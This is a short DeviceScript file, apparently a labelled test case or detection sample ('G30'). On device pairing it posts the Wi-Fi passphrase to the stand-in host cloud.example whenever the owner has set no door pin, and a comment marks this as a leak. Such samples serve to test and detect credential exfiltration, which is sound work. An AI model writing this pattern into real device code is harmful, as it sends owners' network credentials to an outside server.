// G30: sends the passphrase if the owner has set no pin.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const pin = await readSetting("door_pin", "");
  const body = pin === "" ? psk : "locked";
  const response = await fetch("https://cloud.example/g30", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
